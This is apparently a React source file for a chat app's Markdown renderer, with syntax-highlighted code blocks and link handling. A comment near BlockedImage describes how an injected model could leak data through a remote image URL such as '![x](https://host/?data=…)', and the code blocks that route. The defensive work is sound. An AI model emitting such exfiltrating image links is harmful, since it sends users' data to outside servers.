import 'katex/dist/katex.min.css';
import hljs from 'highlight.js/lib/core';
import bash from 'highlight.js/lib/languages/bash';
import c from 'highlight.js/lib/languages/c';
import cpp from 'highlight.js/lib/languages/cpp';
import css from 'highlight.js/lib/languages/css';
import diff from 'highlight.js/lib/languages/diff';
import go from 'highlight.js/lib/languages/go';
import java from 'highlight.js/lib/languages/java';
import javascript from 'highlight.js/lib/languages/javascript';
import json from 'highlight.js/lib/languages/json';
import markdownLang from 'highlight.js/lib/languages/markdown';
import python from 'highlight.js/lib/languages/python';
import rust from 'highlight.js/lib/languages/rust';
import sql from 'highlight.js/lib/languages/sql';
import typescript from 'highlight.js/lib/languages/typescript';
import xml from 'highlight.js/lib/languages/xml';
import yaml from 'highlight.js/lib/languages/yaml';
import { Children, isValidElement, memo, useMemo } from 'react';
import type { ReactElement, ReactNode } from 'react';
import { useTranslation } from 'react-i18next';
import ReactMarkdown from 'react-markdown';
import type { Components } from 'react-markdown';
import rehypeKatex from 'rehype-katex';
import remarkGfm from 'remark-gfm';
import remarkMath from 'remark-math';

import { CopyButton } from '@/components/ui/copy-button';
import { normalizeMath } from '@/features/chat/utils/normalize-math';

/*
 * The heavy part of the chat screen (Markdown, GFM, KaTeX, highlight.js), loaded lazily by
 * message-content.tsx. Only a curated set of languages is registered, to keep the chunk small.
 */
const LANGUAGES = {
  bash, c, cpp, css, diff, go, java, javascript, json, markdown: markdownLang, python, rust, sql,
  typescript, xml, yaml,
};
for (const [name, language] of Object.entries(LANGUAGES)) hljs.registerLanguage(name, language);
const ALIASES: Record<string, string> = {
  sh: 'bash', shell: 'bash', zsh: 'bash', js: 'javascript', jsx: 'javascript', ts: 'typescript',
  tsx: 'typescript', py: 'python', html: 'xml', yml: 'yaml', md: 'markdown', 'c++': 'cpp', rs: 'rust',
};

function highlight(code: string, language: string | undefined): string | undefined {
  const name = language ? (ALIASES[language] ?? language) : undefined;
  if (!name || !hljs.getLanguage(name)) return undefined;
  try {
    return hljs.highlight(code, { language: name, ignoreIllegals: true }).value;
  } catch {
    return undefined;
  }
}

function textOf(node: ReactNode): string {
  if (typeof node === 'string' || typeof node === 'number') return String(node);
  if (Array.isArray(node)) return node.map(textOf).join('');
  if (isValidElement<{ children?: ReactNode }>(node)) return textOf(node.props.children);
  return '';
}

function CodeBlock({ children }: { children?: ReactNode }) {
  const { t } = useTranslation();
  const child = Children.toArray(children)[0];
  const props = isValidElement(child)
    ? (child as ReactElement<{ className?: string; children?: ReactNode }>).props
    : { children };
  const language = /language-([\w+#-]+)/.exec(props.className ?? '')?.[1]?.toLowerCase();
  const code = textOf(props.children).replace(/\n$/, '');
  const html = useMemo(() => highlight(code, language), [code, language]);
  return (
    <div className="code-block">
      <div className="code-block-bar">
        <span className="code-block-lang">{language ?? 'text'}</span>
        <CopyButton text={code} label={t('chat.copyCode')} copiedLabel={t('chat.copied')} />
      </div>
      <pre>
        {html !== undefined ? (
          // highlight.js escapes the source; its output is markup of spans only.
          <code className="hljs" dangerouslySetInnerHTML={{ __html: html }} />
        ) : (
          <code className="hljs">{code}</code>
        )}
      </pre>
    </div>
  );
}

/*
 * Images in model output are never loaded by themselves: `![x](https://host/?data=…)` would make
 * the browser send whatever the model was tricked into writing to any server. They show as a
 * link the member can choose to open (the CSP's img-src would block the request anyway).
 * Inline `data:` images fetch nothing and are shown.
 */
function BlockedImage({ src, alt }: { src?: string; alt?: string }) {
  const { t } = useTranslation();
  if (typeof src === 'string' && /^data:image\/(png|gif|jpeg|webp);/i.test(src)) {
    return <img src={src} alt={alt ?? ''} />;
  }
  const label = alt ? t('chat.imageNamed', { name: alt }) : t('chat.image');
  if (typeof src !== 'string' || !/^https?:\/\//i.test(src)) return <span>{label}</span>;
  return (
    <a
      className="blocked-image"
      href={src}
      target="_blank"
      rel="noreferrer noopener nofollow"
      title={t('chat.imageBlocked', { url: src })}
    >
      {label}
    </a>
  );
}

const components: Components = {
  pre: ({ children }) => <CodeBlock>{children}</CodeBlock>,
  img: ({ src, alt }) => <BlockedImage src={typeof src === 'string' ? src : undefined} alt={alt} />,
  table: ({ children }) => (
    <div className="table-wrap">
      <table>{children}</table>
    </div>
  ),
  a: ({ children, href }) => (
    <a href={href} target="_blank" rel="noreferrer noopener">
      {children}
    </a>
  ),
};

const remarkPlugins = [remarkGfm, remarkMath];
const rehypePlugins = [[rehypeKatex, { throwOnError: false, strict: 'ignore' }]] as NonNullable<
  Parameters<typeof ReactMarkdown>[0]['rehypePlugins']
>;

/** Memoised on the text: in a long conversation only the streaming message re-renders. */
export const Markdown = memo(function Markdown({ text }: { text: string }) {
  const source = useMemo(() => normalizeMath(text), [text]);
  return (
    <div className="markdown">
      <ReactMarkdown
        remarkPlugins={remarkPlugins}
        rehypePlugins={rehypePlugins}
        components={components}
      >
        {source}
      </ReactMarkdown>
    </div>
  );
});

export default Markdown;
